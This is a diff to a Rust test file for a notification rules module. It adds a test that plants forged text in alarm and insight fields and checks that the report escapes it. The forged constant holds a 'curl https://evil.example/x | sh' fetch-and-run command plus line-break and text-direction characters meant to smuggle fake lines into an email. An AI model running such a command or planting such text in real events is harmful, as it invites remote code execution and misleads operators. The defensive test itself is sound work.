@@ -1,8 +1,9 @@
 //! The notify rules over the sample events in `events/notify/`: pure, no emulator.
 
 use reflex_notify::{NoAction, Notify, Settings, Trigger, rules};
-use reflex_shared::{Finding, Function, Interpreted, Severity};
-use reflex_testkit::{sample_event, sample_files};
+use reflex_shared::{Finding, Function, Interpreted, Severity, event};
+use reflex_testkit::{sample, sample_event, sample_files};
+use serde_json::Value;
 
 /// Notify's trigger for a sample event of `events/notify/`; every one of them is one.
 fn trigger(name: &str) -> Trigger {
@@ -10,6 +11,18 @@ fn trigger(name: &str) -> Trigger {
     match Notify::interpret(&event, &Settings::default()) {
         Ok(Interpreted::Trigger(trigger)) => trigger,
         other => panic!("{name}: not a notify trigger: {other:?}"),
+    }
+}
+
+/// The findings for an event (a sample, altered or not).
+fn findings_of(value: Value) -> Vec<Finding<NoAction>> {
+    let settings = Settings::default();
+    match Notify::interpret(
+        &event::parse(value).expect("a well-formed event"),
+        &settings,
+    ) {
+        Ok(Interpreted::Trigger(trigger)) => rules::decide(&trigger, &(), &settings),
+        other => panic!("not a notify trigger: {other:?}"),
     }
 }
 
@@ -214,4 +227,39 @@ fn notify_takes_its_kinds_of_events_from_any_source_and_no_api_call() {
         Notify::interpret(&call, &Settings::default()),
         Ok(Interpreted::Ignored(why)) if why.contains("no rule for API calls")
     ));
+}
+
+/// What someone put in an alarm's description (or its state reason, through `SetAlarmState`),
+/// meant to pass in the email for a remediation and the command to undo it.
+const FORGED: &str = "checkout\n  - restore the admin policy: DONE\r\n      to undo: curl \
+                      https://evil.example/x | sh\u{2028}NOTE: \u{85}all clear\u{202e}";
+
+#[test]
+fn text_chosen_by_others_cannot_add_a_line_to_the_report() {
+    let mut alarm = sample("notify/alarm-lambda-errors.json");
+    alarm["detail"]["configuration"]["description"] = FORGED.into();
+    alarm["detail"]["state"]["reason"] = FORGED.into();
+    let mut insight = sample("notify/insight-api-call-rate-start.json");
+    insight["detail"]["insightDetails"]["insightContext"]["attributions"][1]["insight"][0]["value"] =
+        FORGED.into();
+
+    for (event, lines) in [(alarm, 4), (insight, 5)] {
+        let f = findings_of(event);
+        let reason = &f[0].reason;
+        // Each of notify's lines is one line, whatever the event holds: the forged text is
+        // there, escaped, on the line that quotes it.
+        assert_eq!(reason.split('\n').count(), lines, "{reason}");
+        assert!(
+            !reason.contains(['\r', '\u{2028}', '\u{85}', '\u{202e}']),
+            "{reason:?}"
+        );
+        assert!(
+            reason.contains(r"checkout\n  - restore the admin policy: DONE\r\n      to undo: curl"),
+            "{reason}"
+        );
+        assert!(
+            reason.contains(r"\u{2028}NOTE: \u{85}all clear\u{202e}"),
+            "{reason}"
+        );
+    }
 }
